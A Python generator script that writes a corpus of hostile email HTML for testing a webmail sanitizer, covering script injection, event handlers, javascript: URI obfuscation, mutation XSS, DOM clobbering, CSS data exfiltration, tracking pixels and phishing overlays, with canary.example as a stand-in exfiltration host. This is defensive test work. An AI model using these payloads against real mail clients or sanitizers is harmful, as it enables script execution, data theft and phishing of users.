"""Writes attacks/*.html: the HTML of hostile mails, after the published classes of attacks on webmail and on
sanitizers (mutation XSS, namespace confusion, DOM clobbering, CSS exfiltration, tracking...). Run it to write the
folder anew; the files are what the tests read. In them, canary.example stands for a server that must hear nothing,
and top.postMessage(`pwned`,`*`) for a script that must not run."""
import pathlib
import re

OUT = pathlib.Path(__file__).resolve().parent / "attacks"
P = "top.postMessage(`pwned`,`*`)"
C = "http://canary.example/"
IMG = f"<img src=x onerror={P}>"
ATTACKS = []


def add(kind, *texts):
    for n, text in enumerate(texts, 1):
        ATTACKS.append((f"{kind}-{n:02}", text))


def scripts():
    add("script", f"<script>{P}</script>", f"<script src={C}s.js></script>", f"<SCRIPT SRC=//canary.example/s.js></SCRIPT>",
        f"<script/x src='{C}s.js'></script>", f"<scr<script>ipt>{P}</scr</script>ipt>", f"<script\x00>{P}</script>",
        f"<<script>{P}//<</script>", f"<script type=module>import('{C}m.js')</script>", f"<script\n>{P}</script\n>",
        f"</title><script>{P}</script>", f"</style></script><script>{P}</script>", f"<!--><script>{P}</script>-->",
        f"<!--<img src=--><img src=x onerror={P}//>", f"<![CDATA[<script>{P}</script>]]>", f"<?xml version='1.0'?><script>{P}</script>",
        f"<script src=data:text/javascript,{P}></script>", f"<noscript><p title=\"</noscript>{IMG}\"></noscript>",
        f"<comment><img src=\"</comment>{IMG}\">", f"<xmp><p title=\"</xmp>{IMG}\">", f"<plaintext>{IMG}",
        f"<noembed><img title=\"</noembed>{IMG}\"></noembed>", f"<noframes><p title=\"</noframes>{IMG}\"></noframes>",
        f"<title><p title=\"</title>{IMG}\">", f"<textarea><p title=\"</textarea>{IMG}\">", f"<iframe><p title=\"</iframe>{IMG}\">",
        f"<!DOCTYPE html [<!ENTITY x \"{P}\">]><p>&x;</p>", f"<script>/*</script>*/{P}</script>",
        f"<script type=importmap>{{\"imports\":{{\"a\":\"{C}a.js\"}}}}</script><script type=module>import 'a'</script>",
        f"<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{C}p\"]}}]}}</script>")


def handlers():
    for n, (tag, event) in enumerate([
            ("img src=x", "onerror"), ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"), ("body", "onload"),
            ("body", "onpageshow"), ("body", "onresize"), ("body", "onhashchange"), ("body", "onmessage"), ("body background=x", "onfocus"),
            ("svg", "onload"), ("svg/", "onload"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video autoplay src=x", "onloadstart"),
            ("video><source src=x", "onerror"), ("details open", "ontoggle"), ("details", "ontoggle"), ("input autofocus", "onfocus"),
            ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("keygen autofocus", "onfocus"), ("button autofocus", "onfocus"),
            ("a href=# autofocus tabindex=1", "onfocus"), ("div contenteditable autofocus", "onfocus"), ("div tabindex=1 autofocus", "onfocusin"),
            ("input autofocus", "onblur"), ("marquee", "onstart"), ("marquee loop=1 width=0", "onfinish"), ("div", "onmouseover"),
            ("div", "onpointerenter"), ("div", "onclick"), ("a", "onclick"), ("div", "onwheel"), ("div", "oncopy"), ("form", "onsubmit"),
            ("form", "onformdata"), ("iframe src=about:blank", "onload"), ("object data=x", "onerror"), ("embed src=x", "onerror"),
            ("link rel=stylesheet href=x", "onerror"), ("style", "onload"), ("style>@import 'x'", "onerror"), ("script src=x", "onerror"),
            ("track src=x", "onerror"), ("table background=x", "onerror"), ("frameset", "onload"), ("isindex type=image src=1", "onerror"),
            ("img src=x", "ONERROR"), ("img src=x", "onError\n"), ("img/src=x/", "onerror"), ("img src=x\f", "onerror"),
            ("img src=x \x0b", "onerror"), ("div style=animation-name:x;animation-duration:1s", "onanimationstart"),
            ("div style=transition:all+1s", "ontransitionend"), ("dialog open", "onclose"), ("div popover", "onbeforetoggle"),
            ("div", "onscrollend"), ("div hidden=until-found", "onbeforematch"), ("div style=content-visibility:auto", "oncontentvisibilityautostatechange")], 1):
        add(f"handler-{n:02}", f"<{tag} {event}={P}>text")


SCHEMES = [f"javascript:{P}", f"JaVaScRiPt:{P}", f"java\tscript:{P}", f"java\nscript:{P}", f"&#106;avascript:{P}", f"&#x6A;avascript&colon;{P}",
           f"javascript&#0000058{P}", f"\x01javascript:{P}", f" javascript:{P}", f"&Tab;java&NewLine;script:{P}", f"vbscript:MsgBox(1)",
           f"data:text/html,<script>{P}</script>", "data:text/html;base64,PHNjcmlwdD50b3AucG9zdE1lc3NhZ2UoYHB3bmVkYCxgKmApPC9zY3JpcHQ+",
           f"view-source:javascript:{P}", f"feed:javascript:{P}", f"blob:{C}x", f"jar:{C}x!/", f"filesystem:{C}x", f"about:blank#<script>{P}</script>",
           f"livescript:{P}", f"mocha:{P}", f"javascript://%0a{P}", f"javascript:void%20{P}//http://good.example", f"ms-its:{C}x.chm", "file:///etc/passwd"]


def addresses():
    for n, scheme in enumerate(SCHEMES, 1):
        add(f"scheme-{n:02}", f"<a href=\"{scheme}\">a link</a><img src=\"{scheme}\"><iframe src=\"{scheme}\"></iframe><form action=\"{scheme}\"><button>x</button></form>")
    places = ["<a xlink:href=\"%s\">x</a>", "<area href=\"%s\">", "<map name=m><area shape=default href=\"%s\"></map><img usemap=#m src=x>",
              "<form action=\"%s\"><input type=submit></form>", "<button form=f formaction=\"%s\">x</button><form id=f></form>",
              "<input type=image src=x formaction=\"%s\">", "<object data=\"%s\"></object>", "<embed src=\"%s\">", "<applet code=\"%s\"></applet>",
              "<iframe src=\"%s\"></iframe>", "<frameset><frame src=\"%s\"></frameset>", "<base href=\"%s\"><a href=x>x</a>",
              "<blockquote cite=\"%s\">x</blockquote>", "<q cite=\"%s\">x</q>", "<img longdesc=\"%s\" src=x>", "<img dynsrc=\"%s\">", "<img lowsrc=\"%s\">",
              "<body background=\"%s\">", "<table background=\"%s\"><td background=\"%s\">x</table>", "<bgsound src=\"%s\">", "<link rel=import href=\"%s\">",
              "<meta http-equiv=refresh content=\"0;url=%s\">", "<isindex action=\"%s\">", "<video poster=\"%s\"></video>", "<input src=\"%s\" type=image>",
              "<portal src=\"%s\"></portal>", "<fencedframe src=\"%s\"></fencedframe>", "<svg><a href=\"%s\"><text y=20>x</text></a></svg>",
              "<math href=\"%s\">x</math>", "<svg><use href=\"%s#x\"></use></svg>", "<svg><image href=\"%s\"></image></svg>"]
    for n, place in enumerate(places, 1):
        count = place.count("%s")
        add(f"place-{n:02}", place % ((f"javascript:{P}",) * count), place % ((C + f"place{n}",) * count))


def mutation():
    add("mxss", f"<svg></p><style><a id=\"</style>{IMG}\">", f"<svg><p><style><g title=\"</style>{IMG}\">",
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={P}&gt;\">",
        f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
        f"<math><mtext><table><mglyph><style><math><table id=\"</table>\">{IMG}",
        f"<math><mi><table><malignmark><style><!--</style><img title=\"--&gt;{IMG}\">",
        f"<svg><style><img title=\"</style>{IMG}\"></style></svg>", f"<svg><title><style><img title=\"</style>{IMG}\"></title></svg>",
        f"<svg><desc><noscript><img title=\"</noscript>{IMG}\"></desc></svg>", f"<svg><foreignObject><style><!--</style><img title=\"-->{IMG}\"></foreignObject></svg>",
        f"<select><noscript><p title=\"</noscript>{IMG}\"></select>", f"<select><template><style><!--</style><a rel=\"--></style></template></select>{IMG}\">",
        f"<template><style><!--</style><a title=\"-->{IMG}\"></template>", f"<template shadowrootmode=open>{IMG}<slot></slot></template>",
        f"<div><template shadowroot=open><script>{P}</script></template></div>", f"<option><style></option></select><b>{IMG}</style></option>",
        f"<listing>&lt;img src=1 onerror={P}&gt;</listing>", f"<p>x</p>`<img src=`x` title=`onerror={P}`>", f"<img alt=\"``onerror={P}\" src=x>",
        f"<math><annotation-xml encoding=\"text/html\"><style><!--</style><img title=\"-->{IMG}\"></annotation-xml></math>",
        f"<math><annotation-xml encoding=application/xhtml+xml><script>{P}</script></annotation-xml></math>",
        f"<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror={P}>\">",
        f"<table><caption><svg><title><table><caption></caption></table><style><a title=\"</style>{IMG}\"></title></svg></caption></table>",
        f"<svg></br><style><a title=\"</style>{IMG}\">", f"<math></br><style><a title=\"</style>{IMG}\">", f"<x-y><svg></x-y><style><a title=\"</style>{IMG}\">",
        f"<noscript><style></noscript>{IMG}</style>", f"<svg><script>alert&lpar;1&rpar;;{P.replace('(', '&#40;').replace(')', '&#41;')}</script></svg>",
        f"<svg><![CDATA[><img title=\"]]>{IMG}\">", f"<math><![CDATA[<style>]]></math><a title=\"</style>{IMG}\">",
        f"<a><a><a><a><svg><desc><a><style><a title=\"</style>{IMG}\">", f"<h1><h2><svg><h3></svg><style><i title=\"</style>{IMG}\">",
        f"<form id=x></form><form><input form=x name=attributes>{IMG}</form>", f"<xss:script xmlns:xss='http://www.w3.org/1999/xhtml'>{P}</xss:script>",
        f"<html xmlns:x='urn:x'><x:script xmlns='http://www.w3.org/1999/xhtml'>{P}</x:script></html>", f"<?xml-stylesheet href=\"javascript:{P}\"?>",
        f"<?import namespace=\"x\" implementation=\"{C}x.htc\">", f"<x a=\"&lt;/x&gt;{IMG.replace('<', '&lt;').replace('>', '&gt;')}\">",
        f"<textarea>&lt;/textarea&gt;&lt;img src=x onerror={P}&gt;</textarea>", f"<p is=x-y><style is=x><!--</style><a title=\"-->{IMG}\">",
        f"<svg><style>&lt;/style&gt;{IMG.replace('<', '&lt;').replace('>', '&gt;')}</style></svg>",
        f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style>{IMG}\"></style></mtext></svg></mglyph></option></mtext></math>",
        f"<svg><g/onload=\"{P}\"//<p>", f"<iframe/src=\"data:text/html,<svg onload={P}>\">", f"<p/onclick={P}>x</p><u/onmouseover={P}>y")


def vectors():
    add("svg", f"<svg><script>{P}</script></svg>", f"<svg><script href={C}s.js></script></svg>", f"<svg><script xlink:href='data:,{P}'></script></svg>",
        f"<svg><animate onbegin={P} attributeName=x dur=1s></svg>", f"<svg><set onbegin={P} attributename=x></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{P}></animate><text y=20>x</text></a></svg>",
        f"<svg><a xmlns:xlink=http://www.w3.org/1999/xlink xlink:href=?><set attributeName=xlink:href to=javascript:{P}></set><text y=20>x</text></a></svg>",
        f"<svg><animate attributeName=href to=javascript:{P} xlink:href=#a></animate><a id=a><text y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/s\tvg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0ndG9wLnBvc3RNZXNzYWdlKGBwd25lZGAsYCpgKScvPjwvc3ZnPg==#x\"></use></svg>",
        f"<svg><use href='{C}u.svg#x'></use></svg>", f"<svg><image href={C}i.png></image></svg>", f"<svg><feImage href={C}f.png></feImage></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>{P}</script>'></iframe></foreignObject></svg>", f"<svg><foreignObject><body onload={P}></foreignObject></svg>",
        f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{P}</handler></svg>", f"<svg><style>@import '{C}c.css';</style></svg>",
        f"<svg><filter><feImage xlink:href=\"{C}f\"></filter></svg>", f"<svg><pattern><image xlink:href={C}p></pattern></svg>",
        f"<svg><discard onbegin={P}></discard></svg>", f"<svg><rect fill=url({C}fill#x) width=9 height=9></svg>", f"<svg><metadata>{IMG}</metadata></svg>",
        f"<svg><tref xlink:href={C}t#x></tref></svg>", f"<svg><cursor xlink:href={C}c></cursor></svg>", f"<svg><a href=javascript:{P}><circle r=400></circle></a></svg>",
        f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{P}'/>\">",
        f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{C}nested'/></svg>\">",
        f"<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{P}'/>\">")
    add("math", f"<math><maction actiontype=statusline xlink:href=javascript:{P}>x</maction></math>", f"<math xlink:href=javascript:{P}>x</math>",
        f"<math><mi xlink:href=\"data:text/html,<script>{P}</script>\">x</mi></math>", f"<math><style>@import '{C}m.css'</style></math>",
        f"<math><mtext>{IMG}</mtext></math>", f"<math><mi style='background:url({C}m)'>x</mi></math>", f"<math><semantics><annotation-xml src={C}a></annotation-xml></semantics></math>")
    add("frame", f"<iframe srcdoc=\"<script>{P}</script>\"></iframe>", f"<iframe srcdoc='&lt;img src=x onerror={P}&gt;'></iframe>", f"<iframe src={C}f></iframe>",
        f"<iframe src=javascript:{P}></iframe>", f"<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>{P}</script>'></iframe>",
        f"<iframe csp=\"script-src 'unsafe-inline'\" srcdoc=\"<script>{P}</script>\"></iframe>", f"<object data='data:text/html,<script>{P}</script>'></object>",
        f"<object type=text/html data={C}o></object>", f"<object><param name=src value={C}p><embed src={C}e></object>", f"<embed type=text/html src={C}e>",
        f"<applet codebase={C} code=x archive={C}a.jar></applet>", f"<object classid=clsid:x codebase={C}c></object>", f"<frameset rows=*><frame src={C}fr></frameset>",
        f"<iframe loading=lazy src={C}lazy></iframe>", f"<iframe name=top src={C}n></iframe>", f"<layer src={C}l></layer><ilayer src={C}il></ilayer>",
        f"<object data=/mail></object><embed src=/>", "<iframe src=/></iframe><iframe src=/api/v1/session></iframe>")
    add("page", f"<meta http-equiv=refresh content='0;url={C}r'>", f"<meta http-equiv=refresh content='0;url=javascript:{P}'>", f"<meta http-equiv=Set-Cookie content=a=b>",
        f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\"><script>{P}</script>", "<meta http-equiv=Content-Type content='text/html; charset=utf-7'>+ADw-script+AD4-top.postMessage(1)+ADw-/script+AD4-",
        f"<meta name=referrer content=unsafe-url><img src={C}ref>", f"<meta http-equiv=link content='<{C}x>; rel=preload; as=image'>", f"<base href={C}><img src=base.png><a href=x>x</a>",
        f"<base target=_top><a href={C}>x</a>", f"<link rel=stylesheet href={C}l.css>", f"<link rel=preload as=image href={C}pre>", f"<link rel=prefetch href={C}pf>",
        f"<link rel=dns-prefetch href=//canary.example>", f"<link rel=preconnect href={C}>", f"<link rel=modulepreload href={C}mp.js>", f"<link rel=prerender href={C}pr>",
        f"<link rel=icon href={C}icon>", f"<link rel=manifest href={C}man>", f"<link rel=alternate stylesheet href={C}alt>", f"<link rel=stylesheet href=\"data:text/css,@import'{C}d.css'\">",
        f"<link rel=search href={C}os>", f"<link rel=preload as=fetch imagesrcset='{C}is 1x' href={C}f>", f"<link rel=expect href=#x blocking=render>", f"<link rel=compression-dictionary href={C}cd>")
    add("form", f"<form action={C}f method=post><input name=password type=password><button autofocus>Sign in</button></form>", f"<form><button formaction={C}b>x</button></form>",
        f"<form id=x></form><button form=x formaction=javascript:{P}>x</button>", f"<input type=image src={C}i>", f"<form action={C}g target=_top><input type=submit style=position:fixed;inset:0></form>",
        f"<isindex prompt=x action={C}i>", f"<form><input name=q value='secret'><textarea name=t>", f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={P}>y</div>",
        f"<input list=d><datalist id=d><option value=x onfocus={P}></datalist>", f"<form method=dialog action={C}d><button>x</button></form>")
    add("clobber", "<form id=attributes><input name=attributes></form>", "<a id=defaultView></a><a id=defaultView name=x href=x>", "<img name=body><img name=cookie><img name=getElementById>",
        "<form name=document><input name=createElement><input name=querySelector></form>", "<a id=location href='http://canary.example/x'></a>", "<form><input name=parentNode><input name=childNodes><input name=nodeName></form>",
        "<form><input name=removeAttribute><input name=setAttribute><input name=remove></form>" + IMG, "<img name=implementation><img name=currentScript src='http://canary.example/cs.js'>",
        "<object name=parent></object><iframe name=top></iframe>", f"<form onclick={P}><input id=nodeType><input name=nextSibling></form>", "<a id=DOMPurify></a><a id=parent></a><a id=postMessage></a>",
        "<form id=__proto__><input name=constructor></form>", f"<div id=x><form><input name=firstChild>{IMG}</form></div>", f"<form><input name=ownerDocument><input name=tagName><img src=x onerror={P}></form>")


def styles():
    for n, css in enumerate([f"background:url({C}b)", f"background-image:url('{C}b')", f"background:URL(\"{C}b\")", f"background:u\\72l({C}b)", f"background:/**/url({C}b)",
                f"background:image-set('{C}b' 1x)", f"background:-webkit-image-set(url({C}b) 1x)", f"background:cross-fade(url({C}b),url({C}c),50%)", f"list-style:url({C}l)",
                f"list-style-image:url({C}l)", f"cursor:url({C}c),auto", f"content:url({C}c)", f"border-image:url({C}b) 30", f"border-image-source:url({C}b)", f"mask:url({C}m)",
                f"-webkit-mask-image:url({C}m)", f"filter:url({C}f#x)", f"clip-path:url({C}c#x)", f"shape-outside:url({C}s)", f"offset-path:url({C}o#x)", f"behavior:url({C}b.htc)",
                f"-moz-binding:url({C}x.xml#x)", f"width:expression({P})", f"width:exp/**/ression({P})", f"--x:url({C}v);background:var(--x)", f"background:var(--y,url({C}fallback))",
                f"src:url({C}s)", f"background:paint(x),url({C}p)", f"fill:url({C}f#x)", f"marker:url({C}m#x)", f"background:image(\"{C}i\")", f"background:src(\"{C}i\")",
                f"font-family:x;src:url({C}font.woff)", f"background:url(javascript:{P})", f"background:url(data:text/html,x),url({C}d)", f"transition:background 1s;background:url({C}t)",
                f"}}*{{background:url({C}escape)", f"color:red;background:\nurl(\n'{C}n'\n)", "position:fixed;inset:0;z-index:99999;background:#fff", "position:absolute;top:-9999px;left:0;width:200vw;height:200vh",
                "position:sticky;top:0;margin-top:-500px;transform:scale(50)", "all:initial;display:flex;position:fixed;inset:0", f"background:attr(x url),url({C}at)", f"view-transition-name:x;background-image:linear-gradient(red,blue),url({C}lg)"], 1):
        add(f"style-{n:02}", f"<div style=\"{css.replace(chr(34), '&quot;')}\">text</div>")
    add("css", f"<style>@import url({C}i.css);</style>", f"<style>@import '{C}i.css';</style>", f"<style>body{{background:url({C}b)}}</style>", f"<style>@font-face{{font-family:x;src:url({C}f.woff)}}*{{font-family:x}}</style>",
        f"<style>input[value^=a]{{background:url({C}a)}}</style><input value=abc>", f"<style>a[href*=token]{{background:url({C}t)}}</style><a href=?token>x</a>",
        f"<style>@font-face{{font-family:y;src:url({C}u);unicode-range:U+41}}p{{font-family:y}}</style><p>ABC</p>", f"<style>p::before{{content:url({C}c)}}</style><p>x</p>",
        f"<style>@namespace url({C}ns);</style>", f"<style>@media screen{{p{{background:url({C}m)}}}}</style><p>x</p>", f"<style>@supports(display:block){{p{{background:url({C}s)}}}}</style><p>x</p>",
        f"<style>@layer x{{@import '{C}lay'}}</style>", f"<style>@property --a{{syntax:'<url>';initial-value:url({C}pr);inherits:false}}</style>", f"<style>p{{-moz-binding:url({C}x)}}</style><p>x</p>",
        f"<style><!--</style><img src={C}c>-->", f"<style>@charset 'utf-7';+AHs-</style>", f"<style>:has(p){{background:url({C}has)}}</style><p>x</p>", f"<style>@keyframes k{{to{{background:url({C}k)}}}}p{{animation:k 1s}}</style><p>x</p>",
        f"<style>*{{cursor:url({C}cur),auto}}</style>", f"<style media='{C}'>p{{}}</style><p style='@import \"{C}z\"'>x</p>", f"<style>::-webkit-scrollbar{{background:url({C}sb)}}</style>", f"<style>:visited{{color:red}}a:active{{background:url({C}v)}}</style><a href={C}>x</a>",
        f"<style>@container x{{p{{background:url({C}ct)}}}}</style>", f"<style>@scope(p){{:scope{{background:url({C}sc)}}}}</style><p>x</p>", f"<style>p{{background:\\75\\72\\6c({C}esc)}}</style><p>x</p>")


def tracking():
    add("track", f"<img src={C}1.gif width=1 height=1>", f"<img src={C}big.png width=300 height=200 alt=banner>", f"<img src={C}z.gif style='display:none'>", f"<img src={C}a srcset='{C}b 2x'>",
        f"<img srcset='{C}only 1x'>", f"<img srcset=',,,{C}c 1x,' sizes=100vw>", f"<picture><source srcset={C}p><img src={C}q></picture>", f"<picture><source srcset={C}p media='(min-width:1px)'><img></picture>",
        f"<video poster={C}v src={C}w autoplay></video>", f"<video><source src={C}s><track default src={C}t></video>", f"<audio src={C}a autoplay></audio>", f"<audio autoplay><source src={C}s></audio>",
        f"<img loading=lazy src={C}lazy>", f"<img loading=eager fetchpriority=high src={C}e>", f"<img src=//canary.example/rel.png>", f"<img src=\\\\canary.example\\unc>", f"<img src='http:canary.example/h'>",
        f"<img src=ftp://canary.example/f>", f"<img src=https://canary.example/s>", f"<img src='{C}a' crossorigin=use-credentials>", f"<img attributionsrc={C}at src=x>", f"<a attributionsrc={C}at href=x>x</a>",
        f"<a href={C}p ping={C}ping>x</a>", f"<table background={C}t><tr background={C}r><td background={C}d>x</table>", f"<body background={C}body>", f"<image src={C}image>", f"<image xlink:href={C}image2>",
        f"<input type=image src={C}in>", f"<bgsound src={C}bg>", f"<img src=x lowsrc={C}lo dynsrc={C}dy>", f"<img src='&#104;ttp://canary.example/ent'>", f"<img src='h\nttp://canary.example/nl'>",
        f"<img src=' \x01http://canary.example/ctl'>", f"<img src=HTTP://canary.example/upper>", f"<div background={C}div data-src={C}ds>x</div>", f"<hr background={C}hr><font background={C}f>x",
        f"<img src=x usemap=#m><map name=m><area href={C}m ping={C}ap shape=default></map>", f"<object data={C}o type=image/png></object>", f"<command icon={C}c>", f"<menuitem icon={C}mi>", f"<html manifest={C}mf>",
        f"<img src=cid:../../api/v1/session><img src='cid:http://canary.example/x'>", f"<blockquote cite={C}q>x</blockquote><del cite={C}d>y</del>", f"<img src='data:image/png;base64,x' onerror={P}>",
        f"<v:rect xmlns:v=urn:schemas-microsoft-com:vml><v:fill src={C}vml></v:rect>", f"<!--[if gte mso 9]><img src={C}mso><![endif]--><!--[if !mso]><!--><img src={C}nomso><!--<![endif]-->",
        f"<img src=http://canary.example@127.0.0.1/x>", f"<img src={C}x%0d%0aX-Y:z>", f"<img sizes=auto loading=lazy srcset='{C}au 100w'>", f"<source src={C}so><track src={C}tr>")


def tricks():
    add("trick", f"<im\x00g src=x on\x00error={P}>", f"<img src=x on&#101;rror={P}>", f"<img src=x o\u017fnerror={P}>", f"<\u017fcript>{P}</\u017fcript>", f"\ufeff<script>{P}</script>", f"<img src=x onerror\u00a0={P}>",
        f"<img src=\"x\" title='\"' onerror={P}>", f"<img src='x'onerror={P}>", f"<img\x0csrc=x\x0conerror={P}>", f"<a href='java&#x0A;script:{P}'>x</a>", f"<a href=\"javas\u200bcript:{P}\">x</a>",
        f"<a href='\u3000javascript:{P}'>x</a>", f"<a href=\"&#x1;javascript:{P}\">x</a>", f"<a href=\"ja\u0000vascript:{P}\">x</a>", f"\u202e<script>{P}</script>", f"<a href='https://evil.example/'>https://www.bank.example/</a>",
        f"<a href='https://xn--80ak6aa92e.example/'>\u0430\u0440\u0440\u04cf\u0435.example</a>", f"<img \" \" src=x onerror={P}>", f"<img src=x / / onerror={P}>", f"<<img src=x onerror={P}>", f"<img src=x onerror={P}", f"<svg onload={P}",
        f"<a href='x' style='x:y' href='javascript:{P}'>x</a>", f"<p title='</p><script>{P}</script>'>", "<a href='tel:*#06#'>x</a><a href='sms:1'>y</a><a href='intent://x#Intent;scheme=javascript;end'>z</a>", f"<a target=_top href={C}>x</a>",
        f"<a target=_parent href={C} rel=opener>x</a>", f"<a href={C} download=x.exe>x</a>", f"<area href=javascript:{P} shape=default>", f"&lt;script&gt;{P}&lt;/script&gt;", f"%3Cscript%3E{P}%3C/script%3E", f"\\u003cscript\\u003e{P}")
    add("nesting", "<div>" * 3000 + IMG, "<b>" * 600 + f"<svg><style><a title=\"</style>{IMG}\">", "<table><tr><td>" * 400 + f"<script>{P}</script>", "<font>" * 500 + "<p>" * 500 + IMG,
        "<svg>" * 300 + "<foreignObject>" * 200 + IMG, "<math><mtext>" * 300 + f"<style><!--</style><img title=\"-->{IMG}\">", "<a href=x>" * 500 + IMG, "<form>" * 300 + "<div></form>" * 300 + IMG,
        "<select><option>" * 300 + f"<script>{P}</script>", "<!--" * 500 + "-->" + IMG, "<div " + " ".join(f"a{n}=x" for n in range(2000)) + f" onclick={P}>x</div>", f"<p {'x' * 20000}={P} onclick={P}>x</p>")
    add("overlay", "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:#fff'><h1>Your session has ended</h1></div>", f"<a href={C} style='position:fixed;inset:0'>&nbsp;</a>",
        "<marquee style='position:fixed'>x</marquee>", "<dialog open style='position:fixed;inset:0'>Sign in again</dialog>", "<div popover=manual style='display:block;inset:0'>x</div>", "<div style='margin:-5000px;padding:5000px'>x</div>",
        "<table width=99999 height=99999><td>x</table>", "<font size=+999999>x</font><p style='font-size:99999px'>y</p>", "<img width=99999999 height=99999999 src=cid:x>", "<p style='zoom:999;transform:rotate(1turn) scale(999)'>x</p>",
        "<input autofocus><textarea autofocus></textarea><a accesskey=x tabindex=1 href=x>x</a>", "<div contenteditable onfocus=x>x</div><div draggable=true ondragstart=x>y</div>")


for make in (scripts, handlers, addresses, mutation, vectors, styles, tracking, tricks):
    make()
if __name__ == "__main__":
    OUT.mkdir(exist_ok=True)
    for old in OUT.glob("*.html"):
        old.unlink()
    for name, text in ATTACKS:
        (OUT / f"{re.sub('[^a-z0-9-]', '', name)}.html").write_text(text + "\n", encoding="utf-8", newline="")
    print(len(ATTACKS), "attacks")
